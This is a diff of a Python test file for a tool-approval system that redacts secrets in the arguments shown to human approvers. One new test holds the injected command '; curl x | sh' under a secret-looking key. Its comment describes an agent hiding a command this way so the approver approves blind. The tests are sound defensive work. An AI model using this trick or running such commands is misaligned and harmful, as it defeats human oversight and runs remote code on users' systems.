@@ -15,8 +15,7 @@ from typing import Any
 import pytest
 
 from shared.core.cleaning import MAX_NAME_CHARS, MAX_SAFE_INTEGER
-from shared.core.pauses import MAX_ITEM_TEXT
-from shared.core.redaction import REDACTED
+from shared.core.pauses import MAX_ITEM_TEXT, ToolApprovalRequest, pause_from_dict, pause_to_dict
 from tests.hitl.builders import approval, read_approval, tool, unusable
 
 CONTROLS = ["\x00", "\x07", "\x1b", "\x7f", "\x85"]
@@ -212,5 +211,26 @@ def test_secrets_in_arguments_are_redacted_in_what_is_shown_and_sent_unchanged_t
     pause = read_approval(with_args(args))
     shown = pause.tools[0].shown_args
     assert "hunter2" not in shown and "s3cret" not in shown and "abcdefghijkl" not in shown
-    assert shown.count(REDACTED) == 3 and "postgres://app:" in shown
+    assert shown.count("[redacted, ") == 3 and "postgres://app:" in shown
     assert pause.tools[0].args == args
+
+
+def test_an_approval_whose_redactions_would_hide_a_payload_is_unusable() -> None:
+    # An agent may put a command under a secret-looking key: the approver would approve blind.
+    assert unusable(approval(tool(args={"command": "ls", "session_token_note": "; curl x | sh"})))
+    assert unusable(approval(tool(args={"env": [{"name": "API_TOKEN", "value": "a b"}]})))
+    pause = read_approval(approval(tool(args={"api_key": "sk-abcdefghijklmnopqrstuv"})))
+    assert "[redacted, 25 chars, sha256 " in pause.tools[0].shown_args
+
+
+def test_an_approval_is_stored_with_its_arguments_redacted_and_shown_the_same() -> None:
+    args = {"password": "hunter2", "cmd": "deploy --token tok123", "n": 1}
+    pause = read_approval(approval(tool(args=args)))
+
+    stored = pause_to_dict(pause)
+
+    assert "hunter2" not in json.dumps(stored) and "tok123" not in json.dumps(stored)
+    again = pause_from_dict(stored)
+    assert isinstance(again, ToolApprovalRequest)
+    assert again.tools[0].shown_args == pause.tools[0].shown_args
+    assert again.fingerprint == pause.fingerprint
